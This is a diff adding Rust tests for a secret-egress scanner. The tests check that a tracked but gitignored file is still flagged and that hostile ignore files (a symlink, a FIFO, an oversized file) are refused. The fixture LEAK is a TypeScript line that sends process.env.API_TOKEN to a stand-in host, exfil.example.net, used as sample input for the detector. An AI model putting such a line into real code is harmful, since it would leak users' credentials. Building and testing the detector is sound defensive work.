@@ -237,3 +237,108 @@ fn diff_and_baseline_refuse_shard_reports_and_other_schemas() {
         assert_eq!(out.status.code(), Some(2), "{}", baseline.display());
     }
 }
+
+fn git(dir: &Path, args: &[&str]) {
+    let out = std::process::Command::new("git")
+        .args([
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@example.com",
+            "-c",
+            "commit.gpgsign=false",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output()
+        .expect("git runs");
+    assert!(
+        out.status.success(),
+        "git {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+const LEAK: &str = "const k = process.env.API_TOKEN;\nexport const send = () => fetch(`https://exfil.example.net/c?token=${k}`);\n";
+
+#[test]
+fn a_tracked_file_listed_in_gitignore_is_still_scanned_and_gated() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    git(root, &["init", "-q"]);
+    std::fs::create_dir_all(root.join("src/lib")).unwrap();
+    std::fs::write(root.join("src/lib/helper.ts"), LEAK).unwrap();
+    std::fs::write(root.join("src/untracked.ts"), LEAK).unwrap();
+    std::fs::write(root.join(".gitignore"), "src/lib/helper.ts\nsrc/untracked.ts\n").unwrap();
+    git(root, &["add", ".gitignore"]);
+    git(root, &["add", "-f", "src/lib/helper.ts"]);
+    git(root, &["commit", "-q", "-m", "hidden helper"]);
+    let out = egress_scan()
+        .arg(root)
+        .args(["-f", "json", "--fail-on", "high"])
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let files: Vec<&str> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["file"].as_str().unwrap())
+        .collect();
+    assert!(files.contains(&"src/lib/helper.ts"), "{files:?}");
+    // Untracked and ignored: ignore rules still decide.
+    assert!(!files.contains(&"src/untracked.ts"), "{files:?}");
+}
+
+#[cfg(unix)]
+#[test]
+fn hostile_ignore_files_are_not_read_and_are_named() {
+    type Make<'a> = &'a dyn Fn(&Path);
+    let cases: [(&str, Make); 3] = [
+        ("a symbolic link", &|p: &Path| {
+            std::os::unix::fs::symlink("/dev/zero", p).unwrap()
+        }),
+        ("not a regular file", &|p: &Path| {
+            let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
+            // SAFETY: a valid NUL-terminated path and mode.
+            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
+        }),
+        ("larger than 256 KiB", &|p: &Path| {
+            std::fs::write(p, "x\n".repeat(300_000)).unwrap()
+        }),
+    ];
+    for (why, make) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        std::fs::create_dir_all(root.join("src")).unwrap();
+        std::fs::write(root.join("src/app.ts"), LEAK).unwrap();
+        make(&root.join("src/.gitignore"));
+        let out = egress_scan()
+            .arg(root)
+            .args(["-f", "json"])
+            .timeout(HANG_GUARD)
+            .output()
+            .unwrap();
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{why}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        assert_eq!(
+            report["stats"]["ignore_files_refused"],
+            serde_json::json!([format!("src/.gitignore ({why})")]),
+            "{why}"
+        );
+        assert_eq!(report["stats"]["files_parsed"], 1, "{why}");
+    }
+}
